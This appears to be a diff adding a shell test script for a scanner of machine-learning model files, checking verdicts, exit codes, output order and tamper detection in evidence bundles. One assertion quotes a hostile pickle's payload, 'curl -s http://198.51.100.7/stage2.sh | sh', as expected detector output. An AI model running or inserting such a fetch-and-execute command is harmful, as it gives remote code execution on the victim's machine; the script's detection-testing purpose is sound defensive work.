@@ -1,0 +1,101 @@
+#!/bin/bash
+# Verdicts and exit codes over the samples and the benign models.
+. tests/cli/lib.sh
+
+verdict()
+{
+	"$EXHIBIT" scan --format jsonl "$1" 2>/dev/null |
+	    sed -n 's/^{"type":"object".*"depth":0,.*"verdict":"\([a-z]*\)".*/\1/p'
+}
+
+for f in samples/benign/*.*; do
+	same "$f" "$(verdict "$f")" clean
+	exits 0 "$f exits 0" "$EXHIBIT" scan -q "$f"
+done
+for d in "$SAMPLES"/*/; do
+	n=$(basename "$d")
+	[ "$n" = incident ] && continue
+	same "$n/good" "$(verdict "$d/good")" clean
+	v=$(verdict "$d/truncated")
+	checks=$((checks + 1))
+	[ "$v" = incomplete ] || [ "$v" = suspicious ] || [ "$n" = jsonl ] || {
+		echo "FAILED: $n/truncated is '$v'"
+		failures=$((failures + 1))
+	}
+done
+for n in pickle torch_zip torch_legacy zip npy tar compressed image; do
+	same "$n/hostile" "$(verdict "$SAMPLES/$n/hostile")" malicious
+	exits 1 "$n/hostile exits 1" "$EXHIBIT" scan -q "$SAMPLES/$n/hostile"
+done
+for n in safetensors json yaml xml; do
+	same "$n/hostile" "$(verdict "$SAMPLES/$n/hostile")" suspicious
+done
+
+# The call and its argument are named.
+"$EXHIBIT" scan --format jsonl "$SAMPLES/incident/model-v3.pt" >"$T/r.jsonl"
+same "malicious exits 1" "$?" 1
+checks=$((checks + 3))
+grep -q '"callee":"posix.system"' "$T/r.jsonl" || {
+	echo "FAILED: the callee is not named"
+	failures=$((failures + 1))
+}
+grep -q 'curl -s http://198.51.100.7/stage2.sh | sh' "$T/r.jsonl" || {
+	echo "FAILED: the argument is not named"
+	failures=$((failures + 1))
+}
+tail -n 1 "$T/r.jsonl" | grep -q '^{"type":"summary"' || {
+	echo "FAILED: the summary is not last"
+	failures=$((failures + 1))
+}
+exits 0 "--fail-on critical passes a high finding" "$EXHIBIT" scan -q \
+    --fail-on critical "$SAMPLES/safetensors/hostile"
+printf 'no format explains \001\002\003\377\376 these bytes \200\201' >"$T/blob"
+exits 2 "unknown is incomplete, never clean" "$EXHIBIT" scan "$T/blob"
+same "an unknown object" "$(verdict "$T/blob")" incomplete
+exits 2 "a path that is not there" "$EXHIBIT" scan "$T/none"
+
+# One hostile file never stops the directory; rows come in order.
+mkdir "$T/d"
+cp "$SAMPLES/pickle/hostile" "$T/d/a.pkl"
+cp "$SAMPLES/json/good" "$T/d/b.json"
+cp "$T/blob" "$T/d/c"
+exits 1 "findings come before incompleteness" "$EXHIBIT" scan "$T/d"
+"$EXHIBIT" scan --format jsonl "$T/d" 2>/dev/null >"$T/1.jsonl"
+"$EXHIBIT" scan --format jsonl "$T/d" 2>/dev/null >"$T/2.jsonl"
+strip() { sed 's/"started":"[^"]*"//; s/"seconds":[0-9.e-]*//' "$1"; }
+same "two runs are equal but for times" "$(strip "$T/1.jsonl")" "$(strip "$T/2.jsonl")"
+same "order" "$(sed -n 's/.*"type":"object","path":"[^"]*\/\([a-c][^"]*\)","depth":0.*/\1/p' "$T/1.jsonl" | tr '\n' ' ')" "a.pkl b.json c "
+
+# In a bundle, members are read in place and checked against the manifest.
+check "case" make_case
+mkdir "$T/src"
+cp "$SAMPLES/incident/model-v3.pt" "$SAMPLES/json/good" "$T/src"
+bundle=$("$EXHIBIT" collect --case "$T/case" --weights "$T/src" 2>/dev/null)
+exits 1 "a bundle with a hostile model" "$EXHIBIT" scan --case "$T/case" "$bundle"
+"$EXHIBIT" scan --format jsonl "$bundle" >"$T/b.jsonl" 2>/dev/null
+checks=$((checks + 2))
+grep -q '!data/weights/[^"]*/model-v3.pt![^"]*data.pkl"' "$T/b.jsonl" || {
+	echo "FAILED: the path does not lead to the pickle"
+	failures=$((failures + 1))
+}
+if grep -q '"rule":"BAG-' "$T/b.jsonl"; then
+	echo "FAILED: a whole bundle has a bundle finding"
+	failures=$((failures + 1))
+fi
+off=$(grep -a -b -o 'stage2' "$bundle" | head -n 1 | cut -d: -f1)
+cp "$bundle" "$T/changed.tar"
+chmod u+w "$T/changed.tar"
+printf 'S' | dd of="$T/changed.tar" bs=1 seek="$off" conv=notrunc 2>/dev/null
+"$EXHIBIT" scan --format jsonl "$T/changed.tar" >"$T/c.jsonl" 2>/dev/null
+checks=$((checks + 1))
+grep -q '"rule":"BAG-DIGEST"' "$T/c.jsonl" || {
+	echo "FAILED: a changed member is not noticed"
+	failures=$((failures + 1))
+}
+check "list" "$EXHIBIT" list "$bundle"
+member=$("$EXHIBIT" list -q "$bundle" | grep 'model-v3')
+"$EXHIBIT" cat "$bundle" "$member" >"$T/out" 2>/dev/null
+check "cat gives the bytes" cmp "$T/out" "$T/src/model-v3.pt"
+exits 1 "cat of a changed member" "$EXHIBIT" cat "$T/changed.tar" "$member"
+exits 2 "cat of no member" "$EXHIBIT" cat "$bundle" data/none
+finish
